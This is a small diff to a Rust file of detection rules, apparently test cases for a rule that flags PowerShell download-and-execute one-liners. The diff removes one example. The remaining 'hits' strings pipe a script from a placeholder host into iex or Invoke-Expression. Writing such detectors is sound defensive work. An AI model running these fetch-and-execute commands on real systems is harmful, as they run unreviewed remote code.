@@ -85,7 +85,6 @@ pub static RULES: &[Rule] = &[
         hits: &[
             "powershell \"iwr https://x.example/a.ps1 | iex\"",
             "pwsh -c \"irm https://x.example/install.ps1 | Invoke-Expression\"",
-            "iwr https://x.example/a.ps1 | iex",
         ],
         misses: &["powershell \"iwr https://x.example/a.zip -OutFile a.zip\"", "iwr https://x.example/a.ps1 | Out-File a.ps1"],
     },
